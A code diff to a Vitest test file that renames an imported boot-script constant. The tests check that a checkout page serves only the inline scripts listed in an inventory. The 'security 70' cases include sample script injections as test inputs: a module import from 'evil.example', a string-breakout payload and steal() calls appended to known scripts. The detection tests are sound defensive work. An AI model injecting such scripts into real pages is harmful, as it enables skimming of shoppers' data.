@@ -5,7 +5,7 @@ import { join } from 'node:path'
 import { describe, expect, it } from 'vitest'
 import { checkoutScripts as texts } from '#copy/checkout-scripts.ts'
 import { compareWithInventory, hashOfScript, INLINE, INVENTORY } from '#server/http/checkout-scripts.ts'
-import { BEGIN } from '#web/deferred-hydration.ts'
+import { BOOT_SCRIPT } from '#web/deferred-hydration.ts'
 
 const DOCUMENT = join(import.meta.dirname, '../docs/checkout-scripts.md')
 
@@ -26,7 +26,7 @@ it('docs/checkout-scripts.md is the inventory of the code', () => {
 })
 
 it('the first script is the one in the inventory: review its changes, then put in this hash', () => {
-  expect(INLINE.at(-1)?.held).toContain(hashOfScript(BEGIN))
+  expect(INLINE.at(-1)?.held).toContain(hashOfScript(BOOT_SCRIPT))
 })
 
 describe('security 70: a script that is not in the inventory', () => {
@@ -44,7 +44,7 @@ describe('security 70: a script that is not in the inventory', () => {
     ['as a module', '<script type="module">import "https://evil.example/a.js";</script>'],
     ['appended to the data of the page', streamedScript('a");steal("b')],
     ['appended to the imports', '<script type="text/plain">import "/assets/a.js";\nsteal()</script>'],
-    ['appended to the known first script', `<script>${BEGIN};steal()</script>`],
+    ['appended to the known first script', `<script>${BOOT_SCRIPT};steal()</script>`],
   ])('a script that is not in the inventory is found: %s', (_, html) => {
     expect(unknownIn(html)).toHaveLength(1)
   })
@@ -52,7 +52,7 @@ describe('security 70: a script that is not in the inventory', () => {
   it('the check finds no script beyond those of the inventory', () => {
     const modules =
       'import "/assets/manifest-1.js";\nimport * as route0 from "/assets/root-1.js";\nwindow.__reactRouterRouteModules = {"root":route0};\nimport("/assets/entry.client-1.js");'
-    const html = `<script src="${GATEWAY}"></script><script type="module" src="/assets/a-1.js"></script>${streamedScript('[{\\"_1\\":2}]\\n')}<script type="text/plain">${modules}</script><script>${BEGIN}</script>`
+    const html = `<script src="${GATEWAY}"></script><script type="module" src="/assets/a-1.js"></script>${streamedScript('[{\\"_1\\":2}]\\n')}<script type="text/plain">${modules}</script><script>${BOOT_SCRIPT}</script>`
     expect(unknownIn(html)).toEqual([])
     expect(compareWithInventory('', GATEWAY).missing).toHaveLength(INLINE.length)
   })
